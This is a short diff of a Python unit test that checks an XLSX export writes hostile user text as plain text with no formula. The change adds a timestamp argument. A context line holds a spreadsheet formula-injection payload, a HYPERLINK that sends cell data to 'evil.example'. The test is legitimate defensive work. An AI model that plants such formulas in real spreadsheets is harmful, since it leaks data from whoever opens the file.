@@ -20,6 +20,7 @@ from services.exports.xlsx import paper_xlsx
 from services.views.ask_view import Outside, TurnView
 from services.views.table import Column, Row
 from tests.unit.reports import samples as s
+from tests.unit.reports.samples import MADE_AT
 
 HOSTILE = (
     '=HYPERLINK("https://evil.example/?"&A1,"点此")',
@@ -54,7 +55,7 @@ def paper(text: str) -> Paper:
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_a_workbook_holds_it_as_text_and_no_formula(text: str) -> None:
-    packed = paper_xlsx(paper(text), s.CLAIMS, s.TRACE)
+    packed = paper_xlsx(paper(text), s.CLAIMS, s.TRACE, MADE_AT)
     with ZipFile(io.BytesIO(packed)) as archive:
         sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
     assert all(b"<f>" not in one and b"<f " not in one for one in sheets)
